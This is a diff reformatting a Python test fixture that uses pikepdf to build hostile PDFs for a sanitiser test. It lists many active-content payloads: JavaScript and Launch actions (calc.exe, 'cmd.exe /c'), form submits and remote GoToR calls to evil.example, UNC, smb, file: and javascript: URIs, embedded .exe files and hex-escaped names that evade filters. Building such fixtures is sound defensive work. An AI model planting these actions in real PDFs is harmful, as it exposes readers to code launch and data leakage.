@@ -5,6 +5,7 @@ embedded files, rich media and spelling tricks (/J#61vaScript, lower case, mixed
 Every hostile payload carries CANARY in a string or stream, so a checker can also prove by a raw scan of
 the fully decompressed output that none of it survived. The harmless base (tests.doc_helpers.make_pdf plus
 an internal link, an https link and an outline entry) must survive."""
+
 from __future__ import annotations
 
 import io
@@ -25,10 +26,20 @@ def base() -> pikepdf.Pdf:
     """Two pages; page 1 has an internal link to page 2 and an https link; one outline entry to page 2."""
     pdf = pikepdf.open(io.BytesIO(make_pdf(2)))
     p1, p2 = pdf.pages[0].obj, pdf.pages[1].obj
-    internal = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 600, 300, 620], Border=[0, 0, 0],
-                          A=Dictionary(S=Name.GoTo, D=Array([p2, Name.Fit])))  # fmt: skip
-    web = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[72, 560, 300, 580], Border=[0, 0, 0],
-                     A=Dictionary(S=Name.URI, URI=String(SAFE_URL)))  # fmt: skip
+    internal = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=[72, 600, 300, 620],
+        Border=[0, 0, 0],
+        A=Dictionary(S=Name.GoTo, D=Array([p2, Name.Fit])),
+    )
+    web = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=[72, 560, 300, 580],
+        Border=[0, 0, 0],
+        A=Dictionary(S=Name.URI, URI=String(SAFE_URL)),
+    )
     p1.Annots = pdf.make_indirect(Array([pdf.make_indirect(internal), web]))
     outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
     item = pdf.make_indirect(Dictionary(Title=String("Mục lục: trang 2"), Parent=outlines, Dest=Array([p2, Name.Fit])))
@@ -52,21 +63,37 @@ ACTIONS: dict[str, Action] = {
     "JavaScript lower-case name": lambda pdf: Dictionary(S=Name("/javascript"), JS=String(f"app.alert('{CANARY}')")),
     "JS key without /S": lambda pdf: Dictionary(Type=Name.Action, JS=String(f"this.exportDataObject('{CANARY}')")),
     "ECMAScript": lambda pdf: Dictionary(S=Name("/ECMAScript"), JS=String(CANARY)),
-    "Launch": lambda pdf: Dictionary(S=Name.Launch, F=String(f"C:\\Windows\\System32\\calc.exe {CANARY}"),
-                                     Win=Dictionary(F=String("cmd.exe"), P=String(f"/c {CANARY}"))),  # fmt: skip
-    "SubmitForm": lambda pdf: Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{CANARY}"))),
+    "Launch": lambda pdf: Dictionary(
+        S=Name.Launch,
+        F=String(f"C:\\Windows\\System32\\calc.exe {CANARY}"),
+        Win=Dictionary(F=String("cmd.exe"), P=String(f"/c {CANARY}")),
+    ),
+    "SubmitForm": lambda pdf: Dictionary(
+        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{CANARY}"))
+    ),
     "ImportData": lambda pdf: Dictionary(S=Name.ImportData, F=String(f"{CANARY}.fdf")),
     "ResetForm": lambda pdf: Dictionary(S=Name.ResetForm, Fields=Array([String(CANARY)])),
-    "GoToR to a UNC path": lambda pdf: Dictionary(S=Name.GoToR, F=String(f"\\\\evil.example\\{CANARY}\\x.pdf"), D=Array([0, Name.Fit])),
-    "GoToR to a URL": lambda pdf: Dictionary(S=Name.GoToR, F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{CANARY}.pdf")),
-                                             D=Array([0, Name.Fit]), NewWindow=True),  # fmt: skip
+    "GoToR to a UNC path": lambda pdf: Dictionary(
+        S=Name.GoToR, F=String(f"\\\\evil.example\\{CANARY}\\x.pdf"), D=Array([0, Name.Fit])
+    ),
+    "GoToR to a URL": lambda pdf: Dictionary(
+        S=Name.GoToR,
+        F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{CANARY}.pdf")),
+        D=Array([0, Name.Fit]),
+        NewWindow=True,
+    ),
     "GoToE": lambda pdf: Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String(CANARY)), D=Array([0, Name.Fit])),
     "GoToDp": lambda pdf: Dictionary(S=Name("/GoToDp"), Dp=Dictionary(Type=Name("/DPart"), X=C)),
     "Thread": lambda pdf: Dictionary(S=Name.Thread, F=String(f"{CANARY}.pdf"), D=0),
     "Sound": lambda pdf: Dictionary(S=Name.Sound, Sound=_stream(pdf, CANARY, R=8000)),
     "Movie": lambda pdf: Dictionary(S=Name.Movie, T=C),
-    "Rendition": lambda pdf: Dictionary(S=Name.Rendition, OP=0, R=Dictionary(
-        S=Name("/MR"), C=Dictionary(S=Name("/MCD"), D=Dictionary(Type=Name.Filespec, F=String(f"{CANARY}.mp4"))))),
+    "Rendition": lambda pdf: Dictionary(
+        S=Name.Rendition,
+        OP=0,
+        R=Dictionary(
+            S=Name("/MR"), C=Dictionary(S=Name("/MCD"), D=Dictionary(Type=Name.Filespec, F=String(f"{CANARY}.mp4")))
+        ),
+    ),
     "Hide": lambda pdf: Dictionary(S=Name.Hide, T=C),
     "SetOCGState": lambda pdf: Dictionary(S=Name.SetOCGState, State=Array([Name.OFF]), X=C),
     "Trans": lambda pdf: Dictionary(S=Name.Trans, Trans=Dictionary(S=Name.Dissolve), X=C),
@@ -74,19 +101,30 @@ ACTIONS: dict[str, Action] = {
     "RichMediaExecute": lambda pdf: Dictionary(S=Name("/RichMediaExecute"), CMD=Dictionary(C=C)),
     "Named Print": lambda pdf: Dictionary(S=Name.Named, N=Name.Print, X=C),
     "URI javascript:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"javascript:app.alert('{CANARY}')")),
-    "URI JaVaScRiPt with whitespace": lambda pdf: Dictionary(S=Name.URI, URI=String(f" \tJaVa\nScRiPt :alert('{CANARY}')")),
+    "URI JaVaScRiPt with whitespace": lambda pdf: Dictionary(
+        S=Name.URI, URI=String(f" \tJaVa\nScRiPt :alert('{CANARY}')")
+    ),
     "URI file:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"file:///etc/{CANARY}")),
     "URI UNC path": lambda pdf: Dictionary(S=Name.URI, URI=String(f"\\\\evil.example\\{CANARY}")),
     "URI http with backslashes": lambda pdf: Dictionary(S=Name.URI, URI=String(f"http:\\\\evil.example\\{CANARY}")),
     "URI smb:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"smb://evil.example/{CANARY}")),
     "URI data:": lambda pdf: Dictionary(S=Name.URI, URI=String(f"data:text/html,<script>{CANARY}</script>")),
     "URI relative": lambda pdf: Dictionary(S=Name.URI, URI=String(f"{CANARY}/x.html")),
-    "GoTo then JavaScript via /Next": lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]),
-                                                             Next=Dictionary(S=Name.JavaScript, JS=C)),  # fmt: skip
-    "https URI then Launch in a /Next array": lambda pdf: Dictionary(S=Name.URI, URI=String(SAFE_URL), Next=Array([
-        Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])), pdf.make_indirect(Dictionary(S=Name.Launch, F=C))])),
+    "GoTo then JavaScript via /Next": lambda pdf: Dictionary(
+        S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=Dictionary(S=Name.JavaScript, JS=C)
+    ),
+    "https URI then Launch in a /Next array": lambda pdf: Dictionary(
+        S=Name.URI,
+        URI=String(SAFE_URL),
+        Next=Array(
+            [
+                Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
+                pdf.make_indirect(Dictionary(S=Name.Launch, F=C)),
+            ]
+        ),
+    ),
     "GoTo carrying /JS": lambda pdf: Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), JS=C),
-}  # fmt: skip
+}
 
 
 # --- places -------------------------------------------------------------------------------------------------
@@ -96,8 +134,18 @@ def _link(pdf: pikepdf.Pdf, **keys: object) -> None:
 
 
 def _field(pdf: pikepdf.Pdf, **keys: object) -> None:
-    widget = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String("nut"),
-                                          Rect=[72, 450, 200, 470], P=pdf.pages[0].obj, **keys))  # fmt: skip
+    widget = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Btn,
+            Ff=65536,
+            T=String("nut"),
+            Rect=[72, 450, 200, 470],
+            P=pdf.pages[0].obj,
+            **keys,
+        )
+    )
     pdf.pages[0].obj.Annots.append(widget)
     pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
 
@@ -122,14 +170,30 @@ PLACES: dict[str, Place] = {
     "form field /AA": lambda pdf, a: _field(pdf, AA=Dictionary(K=a, F=a, V=a, C=a)),
     "first outline entry /A": lambda pdf, a: setattr(pdf.Root.Outlines.First, "A", a),
     "outline entry reached by /Next": _outline_second,
-    "names tree /JavaScript": lambda pdf, a: setattr(pdf.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("x"), a])))),
-    "names tree /JavaScript in /Kids": lambda pdf, a: setattr(pdf.Root, "Names", Dictionary(JavaScript=Dictionary(
-        Kids=Array([pdf.make_indirect(Dictionary(Limits=Array([String("a"), String("z")]), Names=Array([String("m"), a])))])))),
+    "names tree /JavaScript": lambda pdf, a: setattr(
+        pdf.Root, "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("x"), a])))
+    ),
+    "names tree /JavaScript in /Kids": lambda pdf, a: setattr(
+        pdf.Root,
+        "Names",
+        Dictionary(
+            JavaScript=Dictionary(
+                Kids=Array(
+                    [
+                        pdf.make_indirect(
+                            Dictionary(Limits=Array([String("a"), String("z")]), Names=Array([String("m"), a]))
+                        )
+                    ]
+                )
+            )
+        ),
+    ),
     "/Next of the internal link": lambda pdf, a: setattr(pdf.pages[0].obj.Annots[0].A, "Next", a),
-    "/Next array of the internal link": lambda pdf, a: setattr(pdf.pages[0].obj.Annots[0].A, "Next", Array([
-        Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])), a])),
+    "/Next array of the internal link": lambda pdf, a: setattr(
+        pdf.pages[0].obj.Annots[0].A, "Next", Array([Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])), a])
+    ),
     "array under an unknown key": lambda pdf, a: setattr(pdf.pages[0].obj, "PieceInfo", Array([Array([a])])),
-}  # fmt: skip
+}
 
 
 def _embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Stream:
@@ -137,14 +201,19 @@ def _embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Stream:
 
 
 def _filespec(pdf: pikepdf.Pdf) -> Dictionary:
-    return Dictionary(Type=Name.Filespec, F=String(f"{CANARY}.exe"), UF=String(f"{CANARY}.exe"), EF=Dictionary(F=_embedded_file(pdf)))
+    return Dictionary(
+        Type=Name.Filespec, F=String(f"{CANARY}.exe"), UF=String(f"{CANARY}.exe"), EF=Dictionary(F=_embedded_file(pdf))
+    )
 
 
 def _annotation(subtype: str, **keys: object) -> Callable[[pikepdf.Pdf], None]:
     def add(pdf: pikepdf.Pdf) -> None:
         made = {k: (v(pdf) if callable(v) else v) for k, v in keys.items()}
-        pdf.pages[0].obj.Annots.append(pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"),
-                                                                    Rect=[300, 300, 400, 400], **made)))  # fmt: skip
+        pdf.pages[0].obj.Annots.append(
+            pdf.make_indirect(
+                Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[300, 300, 400, 400], **made)
+            )
+        )
 
     return add
 
@@ -168,8 +237,11 @@ def _postscript(pdf: pikepdf.Pdf) -> None:
 # Content that is not an action but active or a carrier all the same.
 CARRIERS: dict[str, Callable[[pikepdf.Pdf], None]] = {
     "XFA form": _xfa,
-    "embedded file in the names tree": lambda pdf: setattr(pdf.Root, "Names", Dictionary(
-        EmbeddedFiles=Dictionary(Names=Array([C, _filespec(pdf)])), Dests=Dictionary(Names=Array([])))),
+    "embedded file in the names tree": lambda pdf: setattr(
+        pdf.Root,
+        "Names",
+        Dictionary(EmbeddedFiles=Dictionary(Names=Array([C, _filespec(pdf)])), Dests=Dictionary(Names=Array([]))),
+    ),
     "associated file /AF on a page": lambda pdf: setattr(pdf.pages[0].obj, "AF", Array([_filespec(pdf)])),
     "associated file /AF on the catalog": lambda pdf: setattr(pdf.Root, "AF", Array([_filespec(pdf)])),
     "portfolio /Collection": _portfolio,
@@ -177,17 +249,26 @@ CARRIERS: dict[str, Callable[[pikepdf.Pdf], None]] = {
     "Sound annotation": _annotation("Sound", Sound=lambda pdf: _stream(pdf, CANARY, R=8000)),
     "Movie annotation": _annotation("Movie", Movie=Dictionary(F=String(f"{CANARY}.mov"))),
     "Screen annotation with a rendition": _annotation("Screen", A=lambda pdf: ACTIONS["Rendition"](pdf)),
-    "RichMedia annotation": _annotation("RichMedia", RichMediaContent=lambda pdf: Dictionary(
-        Assets=Dictionary(Names=Array([C, _filespec(pdf)])))),
-    "3D annotation": _annotation("3D", **{"3DD": lambda pdf: _stream(pdf, CANARY, Type=Name("/3D"), Subtype=Name("/U3D"))}),
+    "RichMedia annotation": _annotation(
+        "RichMedia", RichMediaContent=lambda pdf: Dictionary(Assets=Dictionary(Names=Array([C, _filespec(pdf)])))
+    ),
+    "3D annotation": _annotation(
+        "3D", **{"3DD": lambda pdf: _stream(pdf, CANARY, Type=Name("/3D"), Subtype=Name("/U3D"))}
+    ),
     "PostScript XObject": _postscript,
     "catalog /URI base": lambda pdf: setattr(pdf.Root, "URI", Dictionary(Base=String(f"file:///{CANARY}/"))),
     "embedded file stream under an unknown key": lambda pdf: setattr(pdf.Root, "Extra", _embedded_file(pdf)),
-    "lower-case /aa and /js keys": lambda pdf: _link(pdf, aa=Dictionary(E=Dictionary(S=Name.JavaScript, JS=C)),
-                                                     A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), js=C)),
-    "alternate presentations names tree": lambda pdf: setattr(pdf.Root, "Names", Dictionary(
-        AlternatePresentations=Dictionary(Names=Array([C, Dictionary(Type=Name("/SlideShow"), JS=C)])))),
-}  # fmt: skip
+    "lower-case /aa and /js keys": lambda pdf: _link(
+        pdf,
+        aa=Dictionary(E=Dictionary(S=Name.JavaScript, JS=C)),
+        A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), js=C),
+    ),
+    "alternate presentations names tree": lambda pdf: setattr(
+        pdf.Root,
+        "Names",
+        Dictionary(AlternatePresentations=Dictionary(Names=Array([C, Dictionary(Type=Name("/SlideShow"), JS=C)]))),
+    ),
+}
 
 
 def build(place: str, action: str, indirect: bool) -> bytes:
@@ -208,7 +289,12 @@ def hex_escaped_names() -> bytes:
     pdf = base()
     _link(pdf, A=Dictionary(S=Name.JavaScript, JS=C), AA=Dictionary(E=Dictionary(S=Name.Launch, F=C)))
     raw = _save(pdf, plain=True)
-    for name, escaped in ((b"/JavaScript", b"/J#61vaScript"), (b"/Launch", b"/L#61unch"), (b"/AA", b"/#41A"), (b"/JS", b"/J#53")):
+    for name, escaped in (
+        (b"/JavaScript", b"/J#61vaScript"),
+        (b"/Launch", b"/L#61unch"),
+        (b"/AA", b"/#41A"),
+        (b"/JS", b"/J#53"),
+    ):
         raw = re.sub(re.escape(name) + rb"(?![A-Za-z0-9])", escaped, raw)
     return raw
 
